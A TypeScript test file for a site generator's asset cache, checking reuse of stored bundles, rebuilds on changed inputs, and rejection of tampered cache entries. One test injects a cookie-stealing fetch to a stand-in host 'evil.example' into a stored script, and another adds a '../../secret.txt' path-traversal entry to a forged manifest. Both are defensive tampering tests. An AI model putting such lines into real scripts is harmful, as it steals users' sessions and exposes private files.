/**
 * The bundled assets are reused while their inputs are unchanged, and bundled
 * again as soon as one changes: a cached build must never ship stale scripts.
 * The cache is checked, never trusted: a stored file edited, a manifest torn,
 * unsealed or naming a path out of its folder is a miss, bundled again.
 */
import { mkdtemp, readdir, readFile, rm, stat, truncate, utimes, writeFile } from 'node:fs/promises';
import { readFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { bundleAssets, COMPILE_HINT, type BundleInput } from '../../generator/assets/bundle-assets';

let dir: string;
let cacheDir: string;
let input: BundleInput;
beforeEach(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'asset-cache-'));
  cacheDir = path.join(dir, 'cache');
  await writeFile(path.join(dir, 'site.css'), 'body { color: #123456; }\n');
  await writeFile(path.join(dir, 'hello.ts'), 'document.body.dataset.greeting = "first version";\n');
  input = { stylesheet: path.join(dir, 'site.css'), scripts: { hello: path.join(dir, 'hello.ts') } };
});
afterEach(() => rm(dir, { recursive: true, force: true }));

const text = (assets: Awaited<ReturnType<typeof bundleAssets>>, url: string) =>
  new TextDecoder().decode(assets.files.get(url.slice(1)));

/** When the scripts' manifest was last written: a build that reuses the stored bundle writes none. */
const manifestWritten = async () => (await stat(path.join(cacheDir, 'scripts-manifest.json'))).mtimeMs;
/** Sets the manifest's time in the past, so a rewrite shows. */
const ageManifest = () =>
  utimes(path.join(cacheDir, 'scripts-manifest.json'), new Date(1_000_000), new Date(1_000_000));
const scriptsFolder = async () => (await readdir(cacheDir)).find((name) => /^scripts-[0-9a-f]{16}$/.test(name))!;

describe('the asset cache', () => {
  it('hands back the stored bundle while no input changed', async () => {
    const first = await bundleAssets(input, dir, cacheDir);
    expect(text(first, first.scripts.hello!)).toContain('first version');
    await ageManifest();
    const second = await bundleAssets(input, dir, cacheDir);
    expect(await manifestWritten()).toBe(1_000_000);
    expect(second.scripts).toEqual(first.scripts);
    expect(second.stylesheet).toBe(first.stylesheet);
    expect(text(second, second.scripts.hello!)).toBe(text(first, first.scripts.hello!));
  });

  it('keeps a site with no scripts as a bundle of nothing, reused build after build', async () => {
    input = { ...input, scripts: {} };
    const first = await bundleAssets(input, dir, cacheDir);
    expect(first.scripts).toEqual({});
    expect(await scriptsFolder(), 'an empty folder for the empty bundle').toBeDefined();
    await ageManifest();
    await bundleAssets(input, dir, cacheDir);
    expect(await manifestWritten(), 'reused, not bundled and stored again').toBe(1_000_000);
  });

  it('never hands back a stored script with code added: it is bundled again, as it should be', async () => {
    const first = await bundleAssets(input, dir, cacheDir);
    const stored = path.join(cacheDir, await scriptsFolder(), first.scripts.hello!.slice(1));
    await writeFile(stored, `${await readFile(stored, 'utf8')};fetch("https://evil.example/"+document.cookie)`);
    const second = await bundleAssets(input, dir, cacheDir);
    expect(second.scripts).toEqual(first.scripts);
    expect(text(second, second.scripts.hello!)).toBe(text(first, first.scripts.hello!));
    expect(text(second, second.scripts.hello!)).not.toContain('evil');
  });

  it('treats a torn manifest as a miss, build after build, and rewrites it whole', async () => {
    const first = await bundleAssets(input, dir, cacheDir);
    const manifest = path.join(cacheDir, 'scripts-manifest.json');
    await truncate(manifest, 40);
    const second = await bundleAssets(input, dir, cacheDir);
    expect(text(second, second.scripts.hello!)).toBe(text(first, first.scripts.hello!));
    expect(() => JSON.parse(readFileSync(manifest, 'utf8'))).not.toThrow();
  });

  it('never follows a manifest that names a file out of its folder, or one it did not seal', async () => {
    const first = await bundleAssets(input, dir, cacheDir);
    const manifestFile = path.join(cacheDir, 'scripts-manifest.json');
    const stored = JSON.parse(await readFile(manifestFile, 'utf8')) as { manifest: string; seal: string };
    const manifest = JSON.parse(stored.manifest) as { assets: { files: string[] } };
    await writeFile(path.join(dir, 'secret.txt'), 'not an asset');
    manifest.assets.files.push('../../secret.txt');
    // The same manifest with the path added, under the old seal, and as the plain manifest an older cache held.
    for (const forged of [{ manifest: JSON.stringify(manifest), seal: stored.seal }, manifest]) {
      await writeFile(manifestFile, JSON.stringify(forged));
      const again = await bundleAssets(input, dir, cacheDir);
      expect([...again.files.keys()].sort()).toEqual([...first.files.keys()].sort());
    }
  });

  it('bundles again when a source changes, even keeping its size', async () => {
    const first = await bundleAssets(input, dir, cacheDir);
    await writeFile(input.scripts.hello!, 'document.body.dataset.greeting = "later version";\n');
    await utimes(input.scripts.hello!, new Date(), new Date(Date.now() + 5000));
    const second = await bundleAssets(input, dir, cacheDir);
    expect(second.scripts.hello).not.toBe(first.scripts.hello);
    expect(text(second, second.scripts.hello!)).toContain('later version');
  });

  it('bundles again when the entry points change', async () => {
    await bundleAssets(input, dir, cacheDir);
    await writeFile(path.join(dir, 'other.ts'), 'document.title = "another entry";\n');
    const more = await bundleAssets(
      { ...input, scripts: { ...input.scripts, other: path.join(dir, 'other.ts') } },
      dir,
      cacheDir,
    );
    expect(Object.keys(more.scripts).sort()).toEqual(['hello', 'other']);
    expect(text(more, more.scripts.other!)).toContain('another entry');
  });

  it('bundles again when the stored files are gone', async () => {
    await bundleAssets(input, dir, cacheDir);
    for (const name of await readdir(cacheDir))
      if (!name.endsWith('-manifest.json')) await rm(path.join(cacheDir, name), { recursive: true });
    const again = await bundleAssets(input, dir, cacheDir);
    expect(text(again, again.scripts.hello!)).toContain('first version');
  });

  it('bundles the stylesheet and the scripts apart: an edit of one leaves the other as stored', async () => {
    const first = await bundleAssets(input, dir, cacheDir);
    await ageManifest();
    await writeFile(input.stylesheet, 'body { color: #654321; }\n');
    await utimes(input.stylesheet, new Date(), new Date(Date.now() + 5000));
    const second = await bundleAssets(input, dir, cacheDir);
    expect(second.stylesheet).not.toBe(first.stylesheet);
    expect(text(second, second.stylesheet)).toContain('#654321');
    expect(await manifestWritten()).toBe(1_000_000);
    expect(second.inputs.sort()).toEqual([input.scripts.hello!, input.stylesheet].sort());
  });
});

describe("an island's stylesheet", () => {
  it('is bundled into a file of its own, minified, named for the island that imports it, and bundled again when it changes', async () => {
    await writeFile(path.join(dir, 'widget.css'), '.widget {\n  position: fixed;\n  color: #abcdef;\n}\n');
    await writeFile(path.join(dir, 'widget.ts'), 'import "./widget.css";\ndocument.body.dataset.widget = "on";\n');
    const withWidget = { ...input, scripts: { ...input.scripts, widget: path.join(dir, 'widget.ts') } };
    const first = await bundleAssets(withWidget, dir, cacheDir);
    expect(first.styles).toEqual({ widget: expect.stringMatching(/^\/assets\/widget-[A-Z0-9]+\.css$/) });
    expect(text(first, first.styles.widget!)).toBe('.widget{position:fixed;color:#abcdef}\n');
    expect(text(first, first.scripts.widget!)).not.toContain('#abcdef');
    expect(first.inputs).toContain(path.join(dir, 'widget.css'));
    // From the cache, the same.
    expect((await bundleAssets(withWidget, dir, cacheDir)).styles).toEqual(first.styles);
    await writeFile(path.join(dir, 'widget.css'), '.widget {\n  position: fixed;\n  color: #fedcba;\n}\n');
    await utimes(path.join(dir, 'widget.css'), new Date(), new Date(Date.now() + 5000));
    const second = await bundleAssets(withWidget, dir, cacheDir);
    expect(text(second, second.styles.widget!)).toContain('#fedcba');
  });
});

describe('the bundled scripts', () => {
  it('each open with the compile hint that has V8 compile them off the main thread as they arrive', async () => {
    await writeFile(path.join(dir, 'shared.ts'), 'export const shared = () => document.title;\n');
    await writeFile(
      path.join(dir, 'hello.ts'),
      'import { shared } from "./shared";\ndocument.body.dataset.greeting = shared();\n',
    );
    await writeFile(
      path.join(dir, 'other.ts'),
      'import { shared } from "./shared";\nexport const later = () => import("./hello");\ndocument.body.dataset.other = shared();\n',
    );
    const assets = await bundleAssets(
      { ...input, scripts: { hello: input.scripts.hello!, other: path.join(dir, 'other.ts') } },
      dir,
    );
    const scripts = [...assets.files.keys()].filter((file) => file.endsWith('.js'));
    // The entries and the chunk they share.
    expect(scripts.length).toBe(3);
    for (const file of scripts) expect(text(assets, `/${file}`).startsWith(`${COMPILE_HINT}\n`), file).toBe(true);
    expect(COMPILE_HINT).toBe('//# allFunctionsCalledOnLoad');
  });
});
